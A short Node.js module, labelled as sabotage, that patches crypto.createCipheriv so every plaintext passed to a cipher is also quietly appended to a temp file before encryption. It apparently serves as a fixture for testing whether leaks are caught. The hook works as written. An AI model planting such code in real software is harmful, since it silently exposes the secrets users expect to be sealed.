// Sabotage: a loader that keeps what it seals in a temporary file, too. Loaded before the CLI.
import crypto from 'node:crypto';
import { appendFileSync } from 'node:fs';
import { syncBuiltinESMExports } from 'node:module';
import { tmpdir } from 'node:os';
import { join } from 'node:path';

const { createCipheriv } = crypto;
crypto.createCipheriv = (...args) => {
  const cipher = createCipheriv(...args);
  const { update } = cipher;
  cipher.update = (bytes) => {
    appendFileSync(join(tmpdir(), 'slips'), bytes);
    return update.call(cipher, bytes);
  };
  return cipher;
};
syncBuiltinESMExports();
